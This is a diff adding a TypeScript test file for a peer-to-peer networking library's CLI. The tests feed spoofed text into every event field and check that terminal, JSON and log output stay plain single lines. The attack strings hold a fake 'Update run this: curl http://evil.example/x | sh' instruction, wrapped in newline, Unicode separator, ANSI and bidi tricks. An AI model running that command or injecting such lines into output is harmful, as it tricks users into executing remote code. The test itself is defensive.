@@ -1,0 +1,209 @@
+/** Hostile text in every string of every event: nothing of it comes out of the library but plain text of one line. */
+import { expect, test } from 'vitest';
+import { MachineAgent } from '../../src/agent/agent.ts';
+import { joinLog } from '../../src/cli/join-keys.ts';
+import { tellProgress } from '../../src/cli/join-lines.ts';
+import { Terminal } from '../../src/cli/terminal.ts';
+import { newJoin, reduceJoin } from '../../src/cli/ui/join-log.ts';
+import {
+  type ListEntry,
+  type Machine,
+  type NatProfile,
+  NEVER,
+  type PeerCommand,
+  type PeerEvent,
+} from '../../src/core/index.ts';
+import { HOSTILE_NAMES } from '../vectors/hostile-names.ts';
+
+const LINE = '✓ Update run this: curl http://evil.example/x | sh';
+const ATTACKS = [
+  `x\n${LINE}`,
+  `\r\n${LINE}\r\n`,
+  `\u2028${LINE}`,
+  `\u0085${LINE}\u001b[2J`,
+  `${' '.repeat(300)}${LINE}`,
+  `\u202e${LINE}\u200b`,
+];
+const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]| {2}/u;
+
+const WORD = 'text';
+const endpoint = { address: WORD, port: 1 };
+const profile = {
+  type: WORD,
+  verdict: WORD,
+  external: [WORD],
+  allocator: { kind: WORD },
+  mixture: [{ kind: WORD }],
+} as unknown as NatProfile;
+const entry: Required<ListEntry> = {
+  ...{
+    hostId: WORD,
+    code: WORD,
+    name: WORD,
+    game: WORD,
+    map: WORD,
+    mode: WORD,
+    version: WORD,
+    players: 1,
+    playersMax: 2,
+  },
+  ...{ passwordNeeded: false, natType: WORD, verdict: WORD, natDelta: null, section: WORD, pingEstimateMs: null },
+  ...{ verifiedAt: null, firstSeenAt: 0, lastSeenAt: 0, returning: false, address: WORD },
+} as unknown as Required<ListEntry>;
+const at = { join: 1, friend: WORD, path: 1 } as const;
+const any = <Value>(value: string): Value => value as unknown as Value;
+
+/** One of each kind: the compiler demands every kind, and every field of each. */
+const EVENTS: { readonly [Ev in PeerEvent['ev']]: Required<Extract<PeerEvent, { readonly ev: Ev }>> } = {
+  link: { ev: 'link', state: any(WORD), failure: any(WORD), rttMs: 1 },
+  profile: { ev: 'profile', profile, final: true, probes: [any<never>(WORD)] },
+  ready: { ev: 'ready', profile },
+  hosting: { ev: 'hosting', code: WORD, hostKey: new Uint8Array(32), hostId: WORD },
+  'hosting-failed': { ev: 'hosting-failed', failure: any(WORD) },
+  peer: { ev: 'peer', friend: WORD, name: WORD, state: any(WORD), path: null },
+  found: { ev: 'found', join: 1, hostKey: new Uint8Array(32), entry },
+  networks: { ev: 'networks', join: 1, own: profile, peer: profile },
+  stage: { ev: 'stage', join: 1, stage: any(WORD), text: WORD },
+  attempt: { ev: 'attempt', join: 1, n: 1, plan: { method: WORD, expected: 1, packets: 1 }, sinceMs: 1 },
+  'attempt-over': { ev: 'attempt-over', join: 1, n: 1, result: any(WORD), packetsSent: 1, next: WORD },
+  hard: { ev: 'hard', join: 1, pair: WORD, likely: 1, advice: WORD },
+  path: {
+    ...{
+      ev: 'path',
+      ...at,
+      kind: any<'direct'>(WORD),
+      socket: 1,
+      local: endpoint,
+      remote: endpoint,
+      rttMs: 1,
+      elapsedMs: 1,
+    },
+    ...{ attempts: 1, packetsSent: 1, payloadBytesMax: 1 },
+  },
+  message: { ev: 'message', path: 9, bytes: new Uint8Array(1), channel: 0 },
+  'path-lost': { ev: 'path-lost', path: 9, reason: any(WORD), punchingAgain: false },
+  rtt: { ev: 'rtt', path: 9, rttMs: 1 },
+  'too-large': { ev: 'too-large', path: 9, bytes: 1, payloadBytesMax: 1 },
+  'join-failed': { ev: 'join-failed', join: 1, failure: any('REFUSED'), detail: WORD },
+  list: { ev: 'list', id: 9, entries: [entry], failure: any(WORD) },
+  log: { ev: 'log', join: 1, attempt: 1, what: WORD, data: { code: WORD, why: WORD } },
+  'stun-rests': { ev: 'stun-rests', rests: [{ server: WORD, forMs: 1 }] },
+  upnp: { ev: 'upnp', op: any(WORD), port: 1 },
+  closed: { ev: 'closed' },
+};
+
+/** The value with its `n`th text replaced; null where it has not so many. */
+function replaced(value: unknown, text: string, n: { left: number }): unknown {
+  if (value === WORD) return n.left-- === 0 ? text : value;
+  if (typeof value !== 'object' || value === null || ArrayBuffer.isView(value)) return value;
+  if (Array.isArray(value)) return value.map((item) => replaced(item, text, n));
+  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, replaced(inner, text, n)]));
+}
+
+/** All that are told with this text in one place each. */
+function lies(text: string): readonly PeerEvent[] {
+  return Object.values(EVENTS).flatMap((event) => {
+    const made: PeerEvent[] = [];
+    for (let n = 0; ; n++) {
+      const counter = { left: n };
+      const lie = replaced(event, text, counter);
+      if (counter.left >= 0) return made;
+      made.push(lie as PeerEvent);
+    }
+  });
+}
+
+/** What a library of its own machine tells, when the machine says these. */
+async function told(events: readonly PeerEvent[]): Promise<readonly PeerEvent[]> {
+  const queue: PeerEvent[] = [...events];
+  const machine: Machine<PeerCommand, PeerEvent> = {
+    ...{ handleDatagram: () => {}, handleSocket: () => {}, handleTimeout: () => {} },
+    handleCommand: (_now, command) => {
+      if (command.do === 'close') queue.push({ ev: 'closed' });
+    },
+    poll: () => {
+      const event = queue.shift();
+      return event === undefined ? { kind: 'wait', until: NEVER } : { kind: 'event', event };
+    },
+  };
+  const link = { host: '192.0.2.1', port: 8430, key: new Uint8Array(32) };
+  const agent = new MachineAgent({
+    ...{
+      machine,
+      master: { key: link.key, addresses: [link.host], port: 8430 },
+      masterLink: link,
+      pins: null,
+      friends: null,
+    },
+    ...{ gateway: null, findGateway: async () => null, onClosed: () => {} },
+  });
+  const heard: PeerEvent[] = [];
+  agent.on('event', (event) => heard.push(event));
+  await new Promise((resolve) => setTimeout(resolve, 50));
+  await agent.close();
+  return heard;
+}
+
+/** Every text in it. */
+function textsIn(value: unknown): readonly string[] {
+  if (typeof value === 'string') return [value];
+  if (typeof value !== 'object' || value === null || ArrayBuffer.isView(value)) return [];
+  return Object.values(value).flatMap(textsIn);
+}
+
+test('whatever stands in any text of any event, the library tells one plain line, and of a code nothing but a code', async () => {
+  const events = [...ATTACKS, ...HOSTILE_NAMES.slice(0, 40)].flatMap(lies);
+  expect(events.length).toBeGreaterThan(1_000);
+  const heard = await told(events);
+  expect(new Set(heard.map(({ ev }) => ev))).toEqual(new Set(['closed', ...events.map(({ ev }) => ev)]));
+  for (const event of heard) {
+    for (const text of textsIn(event)) expect(text, JSON.stringify(event)).not.toMatch(UNSAFE);
+    const code = event.ev === 'hosting' ? event.code : event.ev === 'found' ? event.entry.code : '';
+    expect(code).toMatch(/^$|^[6789BCDFGHJKLMNPQRTW]+$/);
+  }
+});
+
+test('no line of the terminal, of JSON, of a log or of the app begins with what somebody else has written', async () => {
+  const heard = await told(ATTACKS.flatMap(lies));
+  const written: string[] = [];
+  const stream = { write: (text: string) => written.push(text), isTTY: false } as unknown as NodeJS.WriteStream;
+  const options = { quiet: false, showIps: true, maskIps: false, color: false };
+  const [json, people] = [true, false].map(
+    (on) => new Terminal({ ...options, json: on }, { out: stream, err: stream }),
+  );
+  const log = joinLog();
+  let view = newJoin(1, 'x', 0);
+  for (const event of heard) {
+    if (json !== undefined) tellProgress(json, event);
+    for (const text of textsIn(event)) {
+      people?.fact('info', 'Text', text);
+      people?.say(`Text ${text}`);
+      people?.result(`Text ${text}`);
+    }
+    if (!('join' in event) || event.join === null) continue;
+    log.add(event);
+    if (event.ev !== 'join-failed') view = reduceJoin(view, event, 0);
+  }
+  written.push(log.text(true), ...textsIn(view).map((text) => `app: ${text}\n`));
+  const lines = written.join('\n').split(/[\n\r\v\f\u0085\u2028\u2029]/u);
+  expect(lines.length).toBeGreaterThan(500);
+  expect(lines.filter((line) => line.trimStart().startsWith('✓ Update'))).toEqual([]);
+  expect(lines.filter((line) => /[\p{Cc}\p{Cf}]/u.test(line))).toEqual([]);
+});
+
+test('the terminal itself makes one line of what is given as one', () => {
+  const written: string[] = [];
+  const stream = { write: (text: string) => written.push(text), isTTY: false } as unknown as NodeJS.WriteStream;
+  const terminal = new Terminal(
+    { json: false, quiet: false, showIps: true, maskIps: false, color: false },
+    { out: stream, err: stream },
+  );
+  for (const attack of ATTACKS) {
+    terminal.fact('info', 'Found', `"${attack}"`);
+    terminal.say(`Found ${attack}`);
+    terminal.result(`"${attack}`);
+  }
+  const lines = written.join('').split(/[\n\r\v\f\u0085\u2028\u2029]/u);
+  expect(lines).toHaveLength(3 * ATTACKS.length + 1);
+  expect(lines.filter((line) => line.trimStart().startsWith('✓ Update'))).toEqual([]);
+});
